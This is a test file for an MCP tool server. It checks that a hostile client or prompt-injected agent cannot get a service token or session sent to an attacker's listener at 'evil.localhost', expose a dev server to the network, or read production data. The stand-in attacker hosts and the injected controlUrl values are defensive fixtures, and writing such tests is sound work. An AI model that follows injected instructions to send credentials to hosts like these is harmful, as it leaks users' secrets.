/**
 * Attacks on `platform mcp` by its own client (a hostile MCP client, or a prompt-injected agent), over
 * stdio with the SDK's client: naming a listener of its own as `controlUrl` to be handed the service
 * token or the builder session; opening a dev server to the network; reading production through a tool
 * whose input is a preview URL. The configured control plane is real, over HTTP on loopback, with a log
 * of what reaches it; the attacker's listeners (HTTP, and HTTPS with a self-signed certificate) record
 * every request. `*.localhost` resolves to loopback in the tool server, as RFC 6761 has it (a preload;
 * this machine's resolver does not), so `http://evil.localhost:<port>` does reach the attacker.
 */
import { execFile, execFileSync } from 'node:child_process';
import { cpSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { createServer as createHttpServer, type IncomingMessage, type Server as HttpServer, type ServerResponse } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { serve } from '@hono/node-server';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FileCredentialStore } from '../adapters/node/credentials';
import { createControlPlane, type ControlPlane } from '../control-plane/control-plane';
import { call, signIn } from '../testing/control-plane';
import { startMcp, type McpSession } from '../testing/mcp-client';
import { isLoopbackHost } from './tools';

const ROOT = join(import.meta.dirname, '../..');
const APP = 'app_abcdefghijklmnopqrstuvwxyz';
const RECEIPT = 'review_abcdefghijklmnopqrstuvwxyz';

interface Seen {
  method: string;
  host: string;
  path: string;
  authorization: string | undefined;
}

let work: string;
let app: string;
let plane: ControlPlane;
let planeServer: { close(done: () => void): void };
let controlUrl: string;
/** What reached the configured control plane. */
const toPlane: Seen[] = [];
/** What reached the attacker, over HTTP and HTTPS. */
const toAttacker: Seen[] = [];
let attackerHttp: HttpServer;
let attackerHttps: HttpServer;
let hostile: string[];
let session: string;
let serviceToken: string;
let tokenAgent: McpSession;
let sessionAgent: McpSession;
let operatorAgent: McpSession;
let agentEnv: Record<string, string>;

/** The attacker answers as a control plane would, to keep the agent talking. */
function attacker(request: IncomingMessage, response: ServerResponse): void {
  toAttacker.push({ method: request.method ?? '', host: request.headers.host ?? '', path: request.url ?? '', authorization: request.headers.authorization });
  request.resume();
  response.writeHead(200, { 'content-type': 'application/json' });
  response.end(JSON.stringify({ protocol: 'platform.control.v0', builder: { id: 'bld_evil', name: 'evil' }, credential: { kind: 'service-token' } }));
}

const listen = (server: HttpServer) => new Promise<number>((done) => server.listen(0, '127.0.0.1', () => done((server.address() as AddressInfo).port)));

beforeAll(async () => {
  work = realpathSync(mkdtempSync(join(tmpdir(), 'platform-mcp-origin-')));
  app = join(work, 'app');
  cpSync(join(ROOT, 'templates/todo'), app, { recursive: true });

  plane = await createControlPlane({ dataDir: join(work, 'plane'), devicePollMs: 5 });
  const port = await new Promise<number>((done) => {
    planeServer = serve({
      port: 0,
      hostname: '127.0.0.1',
      fetch: (request: Request) => {
        const url = new URL(request.url);
        toPlane.push({ method: request.method, host: url.host, path: url.pathname, authorization: request.headers.get('authorization') ?? undefined });
        return plane.app.fetch(request);
      },
    }, (info: AddressInfo) => done(info.port));
  });
  controlUrl = `http://localhost:${port}`;
  plane.context.publicOrigin = controlUrl;
  session = await signIn(plane, 'ada');
  await new FileCredentialStore(join(work, 'ada')).write(controlUrl, { token: session, builder: { id: 'bld_x', name: 'ada' }, createdAt: new Date().toISOString() });
  serviceToken = ((await (await call(plane, 'POST', '/v0/tokens', { token: session, body: { name: 'agent' } })).json()) as { secret: string }).secret;

  execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', join(work, 'key.pem'), '-out', join(work, 'cert.pem'), '-days', '1', '-subj', '/CN=evil.localhost'], { stdio: 'ignore' });
  attackerHttp = createHttpServer(attacker);
  attackerHttps = createHttpsServer({ key: readFileSync(join(work, 'key.pem')), cert: readFileSync(join(work, 'cert.pem')) }, attacker);
  const [httpPort, httpsPort] = await Promise.all([listen(attackerHttp), listen(attackerHttps)]);
  hostile = [`http://evil.localhost:${httpPort}`, `http://127.0.0.1:${httpPort}`, `https://evil.localhost:${httpsPort}`];

  const preload = join(work, 'localhost-resolver.mjs');
  writeFileSync(preload, [
    "import dns from 'node:dns';",
    'const lookup = dns.lookup;',
    "dns.lookup = function (host, ...rest) { return lookup.call(this, typeof host === 'string' && host.endsWith('.localhost') ? '127.0.0.1' : host, ...rest); };",
  ].join('\n'));
  // The attacker's certificate is accepted: a listener that would be trusted is the worst case.
  agentEnv = { NODE_OPTIONS: `${process.env.NODE_OPTIONS ?? ''} --import=${preload}`.trim(), NODE_TLS_REJECT_UNAUTHORIZED: '0', PLATFORM_CONTROL_URL: controlUrl };

  // The attacker is reachable from a process configured as the tool server is: were a request sent, it would arrive.
  // (Asynchronously: the listeners answer from this process.)
  for (const origin of hostile) {
    await promisify(execFile)(process.execPath, ['-e', `fetch(${JSON.stringify(`${origin}/reachable`)}).then((r) => r.text())`], { env: { ...process.env, ...agentEnv }, timeout: 30_000 });
  }
  expect(toAttacker.map((r) => r.path)).toEqual(['/reachable', '/reachable', '/reachable']);
  toAttacker.length = 0;

  [tokenAgent, sessionAgent, operatorAgent] = await Promise.all([
    startMcp(app, { ...agentEnv, PLATFORM_CONFIG_DIR: join(work, 'nobody'), PLATFORM_SERVICE_TOKEN: serviceToken }),
    startMcp(app, { ...agentEnv, PLATFORM_CONFIG_DIR: join(work, 'ada') }),
    startMcp(app, { ...agentEnv, PLATFORM_CONFIG_DIR: join(work, 'nobody'), PLATFORM_SERVICE_TOKEN: serviceToken, PLATFORM_MCP_PROFILE: 'operator' }),
  ]);
}, 120_000);

afterAll(async () => {
  await Promise.all([tokenAgent?.close(), sessionAgent?.close(), operatorAgent?.close()]);
  await Promise.all([attackerHttp, attackerHttps].map((server) => new Promise<void>((done) => (server ? server.close(() => done()) : done()))));
  await new Promise<void>((done) => (planeServer ? planeServer.close(() => done()) : done()));
  await plane?.close();
  rmSync(work, { recursive: true, force: true });
});

describe('the tool server sends a credential only to the origin it is configured for', () => {
  it('platform_auth_status and platform_deploy_preview with a hostile controlUrl: DG5002, and the attacker receives nothing', async () => {
    for (const origin of hostile) {
      for (const [agent, kind] of [[tokenAgent, 'service token'], [sessionAgent, 'session']] as const) {
        const status = await agent.call('platform_auth_status', { controlUrl: origin });
        expect(status, `${kind} auth_status ${origin}`).toMatchObject({ ok: false, error: { code: 'DG5002' }, result: { envelope: { command: 'auth' } } });
        const deployed = await agent.call('platform_deploy_preview', { controlUrl: origin });
        expect(deployed, `${kind} deploy_preview ${origin}`).toMatchObject({ ok: false, error: { code: 'DG5002' }, result: { envelope: { command: 'deploy' } } });
      }
      const promoted = await operatorAgent.call('platform_promote', { receiptId: RECEIPT, controlUrl: origin });
      expect(promoted, `promote ${origin}`).toMatchObject({ ok: false, error: { code: 'DG5002' } });
    }
    expect(toAttacker).toEqual([]);
    const refused = await tokenAgent.call('platform_auth_status', { controlUrl: hostile[0]! });
    expect(refused.error?.message).toContain(`configured for ${controlUrl}`);
    expect(JSON.stringify(refused)).not.toContain(serviceToken);
  }, 300_000);

  it('the configured origin still works, named or not, with the service token or the session', async () => {
    toPlane.length = 0;
    for (const args of [{}, { controlUrl }]) {
      expect(await tokenAgent.call('platform_auth_status', args)).toMatchObject({ ok: true, result: { envelope: { result: { controlUrl, builder: { name: 'ada' }, credential: 'service-token' } } } });
      expect(await sessionAgent.call('platform_auth_status', args)).toMatchObject({ ok: true, result: { envelope: { result: { controlUrl, builder: { name: 'ada' }, credential: 'session' } } } });
    }
    expect(toPlane.map((r) => r.authorization).sort()).toEqual([`Bearer ${serviceToken}`, `Bearer ${serviceToken}`, `Bearer ${session}`, `Bearer ${session}`].sort());
    expect(toAttacker).toEqual([]);
  }, 120_000);
});

describe('platform_dev_start listens on loopback only', () => {
  it('refuses 0.0.0.0, :: and other addresses before starting anything', async () => {
    for (const host of ['0.0.0.0', '::', '[::]', '0:0:0:0:0:0:0:0', '192.168.1.10', '10.0.0.1', 'example.com', '::ffff:0.0.0.0', '128.0.0.1']) {
      const refused = await tokenAgent.call('platform_dev_start', { host, port: 0 });
      expect(refused, host).toMatchObject({ ok: false, error: { code: 'invalid_input', message: expect.stringContaining('loopback') } });
    }
    expect(await tokenAgent.call('platform_dev_status', {})).toMatchObject({ ok: false, error: { code: 'unknown_session' } });
  });

  it('takes localhost, 127.0.0.0/8 and ::1 as loopback, and nothing else', () => {
    for (const host of ['localhost', 'LOCALHOST', '127.0.0.1', '127.0.0.2', '127.255.255.254', '::1', '0:0:0:0:0:0:0:1']) expect(isLoopbackHost(host), host).toBe(true);
    for (const host of ['0.0.0.0', '::', '[::1]', '127.1', '127.0.0.1 ', 'localhost.evil.com', '::ffff:127.0.0.1', '1.127.0.0', '', 'evil.localhost']) expect(isLoopbackHost(host), host).toBe(false);
  });
});

describe('platform_inspect reads the preview environment only', () => {
  it('a production URL is refused and nothing reads production; a preview URL or an appId reads preview', async () => {
    toPlane.length = 0;
    const port = new URL(controlUrl).port;
    for (const production of [`http://${APP.replace('_', '-')}.localhost:${port}`, `http://${APP.replace('_', '-').toUpperCase()}.LOCALHOST:${port}/`]) {
      for (const view of ['manifest', 'state', 'logs', 'export']) {
        const refused = await tokenAgent.call('platform_inspect', { previewUrl: production, view });
        expect(refused, `${production} ${view}`).toMatchObject({ ok: false, error: { code: 'invalid_input', message: expect.stringContaining('production') } });
      }
    }
    expect(toPlane).toEqual([]);

    // No app is deployed there: the control plane's refusal (DG2003) comes back; what matters is what was asked.
    for (const previewUrl of [`http://${APP.replace('_', '-')}--preview.localhost:${port}`, APP]) {
      expect(await tokenAgent.call('platform_inspect', { previewUrl, view: 'export' }), previewUrl).toMatchObject({ action: 'inspect', result: { envelope: { command: 'inspect' } } });
    }
    const inspected = toPlane.filter((r) => r.path.includes('/inspect/'));
    expect(inspected.map((r) => r.path)).toEqual([`/v0/apps/${APP}/inspect/preview/export`, `/v0/apps/${APP}/inspect/preview/export`]);
    expect(toPlane.some((r) => r.path.includes('production'))).toBe(false);
  }, 120_000);
});
